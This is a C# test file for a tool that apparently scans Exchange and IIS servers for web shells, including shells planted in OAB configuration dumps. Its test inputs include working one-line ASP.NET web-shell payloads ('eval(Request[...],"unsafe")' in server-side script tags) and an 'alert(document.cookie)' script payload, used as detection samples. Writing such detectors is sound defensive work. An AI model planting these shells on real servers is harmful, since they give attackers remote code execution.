using System;
using System.Diagnostics;
using System.IO;
using System.Linq;
using HafniumTools.Configuration;
using HafniumTools.Files;
using HafniumTools.Model;
using Xunit;

namespace HafniumTools.Tests.Files;

public class WebShellRobustnessTests
{
    [Fact]
    public void Mutated_shells_and_random_bytes_never_crash_or_hang()
    {
        var random = new Random(20210302);
        var scanner = new WebShellScanner();
        var seeds = Directory.GetFiles(Path.Combine(FileFixtures.Folder, "Shells"))
            .Concat(Directory.GetFiles(Path.Combine(FileFixtures.Folder, "Benign")))
            .Select(File.ReadAllBytes)
            .ToArray();
        string[] tokens = ["<%", "%>", "<script runat=\"server\">", "</script>", "eval(", "Request[", "\"+\"", "(", ")", "/*", "*/", "\\x", "FromBase64String(\"", "\n", "ExternalUrl : ", "_0x1a2b"];
        var clock = Stopwatch.StartNew();
        int judged = 0;
        for (int i = 0; i < 1500; i++)
        {
            byte[] input = i % 10 == 0 ? RandomBytes(random) : Mutate(seeds[random.Next(seeds.Length)], random, tokens);
            string path = (i % 3) switch
            {
                0 => @"C:\inetpub\wwwroot\aspnet_client\f" + i + ".aspx",
                1 => "/triage/FrontEnd/HttpProxy/owa/auth/f" + i + ".ashx",
                _ => "/triage/ClientAccess/OAB/f" + i + ".txt",
            };

            var findings = scanner.Classify(path, input);
            Assert.All(findings, f => Assert.Matches("^HT-(WS-0|OAB-1)", f.RuleId));
            judged++;
        }

        Assert.Equal(1500, judged);
        Assert.True(clock.Elapsed < TimeSpan.FromMinutes(2), "Fuzzing took " + clock.Elapsed + ": some input is pathologically slow.");
    }

    [Fact]
    public void Pathological_server_code_is_judged_quickly()
    {
        string deep = "<% eval(" + new string('(', 20000) + "Request.Item[\"x\"]" + new string(')', 20000) + "); %>";
        string manyBlocks = string.Concat(Enumerable.Repeat("<% var a = Request.Form[\"x\"]; %>\n", 20000));
        string longLine = "<script runat=\"server\">var s = \"" + new string('a', 500000) + "\"+\"b\";</script>";
        var clock = Stopwatch.StartNew();

        Assert.Contains(new WebShellScanner().Classify("/x/a.aspx", deep), f => f.Verdict == Verdict.Compromise);
        Assert.DoesNotContain(new WebShellScanner().Classify("/x/b.aspx", manyBlocks), f => f.Severity >= Severity.Medium);
        Assert.Empty(new WebShellScanner().Classify("/x/c.aspx", longLine));
        Assert.True(clock.Elapsed < TimeSpan.FromSeconds(30), "Took " + clock.Elapsed);
    }

    [Fact]
    public void Rule_catalog_ids_are_unique_and_file_system_rules()
    {
        var ids = WebShellRules.All.Select(r => r.Id).ToList();

        Assert.Equal(ids.Count, ids.Distinct(StringComparer.Ordinal).Count());
        Assert.All(WebShellRules.All, r => Assert.Equal(FindingCategory.FileSystem, r.Category));
        Assert.All(WebShellRules.All.Where(r => r.Verdict == Verdict.Anomaly), r => Assert.True(r.Severity <= Severity.Medium, r.Id));
        Assert.All(WebShellRules.All.Where(r => r.Verdict == Verdict.Compromise), r => Assert.True(r.Severity >= Severity.High, r.Id));
        Assert.All(WebShellRules.All.Where(r => r.Verdict == Verdict.Context), r => Assert.Empty(r.Cve));
    }

    [Fact]
    public void Oab_recogniser_reports_fields_lines_and_server()
    {
        var dump = ConfigurationDump.TryParse(File.ReadAllText(FileFixtures.Shell("oab-dump-shell.aspx")))!;
        var backup = ConfigurationDump.TryParse(File.ReadAllText(FileFixtures.Benign("oab-admin-backup.txt")))!;

        var scriptField = dump.ScriptUrlField(out string? indicator);
        Assert.NotNull(scriptField);
        Assert.NotNull(indicator);
        Assert.Equal("ExternalUrl", scriptField!.Label);
        Assert.Equal(18, scriptField.LineNumber);
        Assert.Equal(["InternalUrl", "ExternalUrl"], dump.UrlFields().Select(f => f.Key.Label));
        Assert.Equal("EX01", dump.Server);
        Assert.Equal("OAB (Default Web Site)", dump.Name);
        Assert.Null(backup.ScriptUrlField(out _));
        Assert.Equal("https://mail.contoso.com/OAB", backup.UrlFields().Single(f => f.Key.Label == "ExternalUrl").Key.Value);
        Assert.Null(ConfigurationDump.TryParse("ExternalUrl : http://f/<script>\nName : x"));
        Assert.Null(ConfigurationDump.TryParse(File.ReadAllText(FileFixtures.Benign("logon.aspx"))));
    }

    [Theory]
    [InlineData("/triage/inetpub/wwwroot/oab-backup.txt", "HT-OAB-104", Verdict.Exploitation)]
    [InlineData("/triage/inetpub/wwwroot/aspnet_client/x.aspx", "HT-OAB-101", Verdict.Compromise)]
    public void Oab_dump_shell_is_a_compromise_only_where_iis_runs_it(string path, string ruleId, Verdict verdict)
    {
        var hit = new WebShellScanner().Classify(path, File.ReadAllBytes(FileFixtures.Shell("oab-dump-shell.aspx"))).First();

        Assert.Equal(ruleId, hit.RuleId);
        Assert.Equal(verdict, hit.Verdict);
        Assert.True(hit.Severity >= Severity.High);
    }

    [Fact]
    public void Oab_dump_with_client_side_script_only_is_exploitation_evidence()
    {
        string dump = File.ReadAllText(FileFixtures.Shell("oab-dump-shell.aspx"))
            .Replace("http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"klk123456\"],\"unsafe\");}</script>", "http://f/<script>alert(document.cookie)</script>", StringComparison.Ordinal);

        var findings = new WebShellScanner().Classify("/triage/owa/auth/x.aspx", dump);

        Assert.Contains(findings, f => f.RuleId == "HT-OAB-104" && f.LineNumber == 18);
        Assert.DoesNotContain(findings, f => f.Verdict == Verdict.Compromise);
    }

    [Theory]
    [InlineData(@"C:\inetpub\wwwroot\aspnet_client\shell.aspx", ".aspx", true)]
    [InlineData(@"D:\triage\owa.v2\auth\page", "", false)]
    [InlineData("/mnt/triage/EX01/FrontEnd/HttpProxy/ecp/auth/TimeoutLogout.ASPX", ".ASPX", true)]
    [InlineData(@"/mnt/copy/C:\inetpub\wwwroot\include.stm", ".stm", true)]
    [InlineData(@"C:\inetpub\wwwroot\aspnet_client\logo.gif", ".gif", false)]
    public void Page_extension_is_read_from_the_file_name_whatever_the_separator(string path, string extension, bool page)
    {
        Assert.Equal(extension, ServerCode.ExtensionOf(path));
        Assert.Equal(page, ServerCode.IsPageExtension(path));
    }

    [Theory]
    [InlineData("http://f/&lt;script language=&quot;JScript&quot; runat=&quot;server&quot;&gt;function Page_Load(){eval(Request[&quot;k&quot;],&quot;unsafe&quot;);}&lt;/script&gt;", "HT-OAB-105")]
    [InlineData("http://f/<script language=\"JScript\" runat = 'server'>function Page_Load(){eval(Request[\"k\"],\"unsafe\");}</script>", "HT-OAB-101")]
    [InlineData("http://f/<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"p\"],\"unsafe\");%>", "HT-OAB-101")]
    public void Oab_dump_is_a_working_shell_only_when_its_url_holds_code_asp_net_runs(string externalUrl, string ruleId)
    {
        string dump = File.ReadAllText(FileFixtures.Shell("oab-dump-shell.aspx"))
            .Replace("http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"klk123456\"],\"unsafe\");}</script>", externalUrl, StringComparison.Ordinal);

        var findings = new WebShellScanner().Classify("/triage/FrontEnd/HttpProxy/owa/auth/x.aspx", dump);

        var hit = Assert.Single(findings, f => f.RuleId.StartsWith("HT-OAB-1", StringComparison.Ordinal));
        Assert.Equal(ruleId, hit.RuleId);
        Assert.Equal(18, hit.LineNumber);
    }

    [Fact]
    public void Default_web_site_path_comes_from_application_host_config()
    {
        const string config = """
            <configuration><system.applicationHost><sites>
              <site name="Exchange Back End" id="2"><application path="/"><virtualDirectory path="/" physicalPath="C:\Program Files\Microsoft\Exchange Server\V15\ClientAccess" /></application></site>
              <site name="Default Web Site" id="1"><application path="/"><virtualDirectory path="/" physicalPath="%SystemDrive%\web\root" /></application></site>
            </sites></system.applicationHost></configuration>
            """;

        Assert.Equal(@"C:\web\root", DefaultScanRoots.DefaultWebSitePhysicalPath(config, p => p.Replace("%SystemDrive%", "C:")));
        Assert.Null(DefaultScanRoots.DefaultWebSitePhysicalPath("<configuration><broken"));
        var roots = DefaultScanRoots.Build(@"D:\Exchange\", @"C:\web\root", @"C:\Windows", @"C:\ProgramData", "C:");
        Assert.Contains(roots, r => r.Path.Replace('\\', '/').EndsWith("web/root/aspnet_client", StringComparison.OrdinalIgnoreCase) && !r.ContextOnly);
        Assert.Contains(roots, r => r.Path.Replace('\\', '/').EndsWith("FrontEnd/HttpProxy/ecp/auth", StringComparison.Ordinal));
        Assert.Contains(roots, r => r.Path.EndsWith("Temporary ASP.NET Files", StringComparison.Ordinal));
        Assert.Contains(roots, r => r.Path == @"C:\ProgramData" && r.ContextOnly && !r.Recurse);
        Assert.Single(DefaultScanRoots.Build(null, null, null, null, null));
    }

    private static byte[] RandomBytes(Random random)
    {
        var bytes = new byte[random.Next(0, 4096)];
        random.NextBytes(bytes);
        return bytes;
    }

    private static byte[] Mutate(byte[] seed, Random random, string[] tokens)
    {
        var text = new System.Text.StringBuilder(System.Text.Encoding.UTF8.GetString(seed));
        int edits = random.Next(1, 12);
        for (int e = 0; e < edits && text.Length > 0; e++)
        {
            int at = random.Next(text.Length);
            switch (random.Next(3))
            {
                case 0:
                    text.Remove(at, Math.Min(random.Next(1, 40), text.Length - at));
                    break;
                case 1:
                    text.Insert(at, tokens[random.Next(tokens.Length)]);
                    break;
                default:
                    int from = random.Next(text.Length);
                    text.Insert(at, text.ToString(from, Math.Min(30, text.Length - from)));
                    break;
            }
        }

        return System.Text.Encoding.UTF8.GetBytes(text.ToString());
    }
}
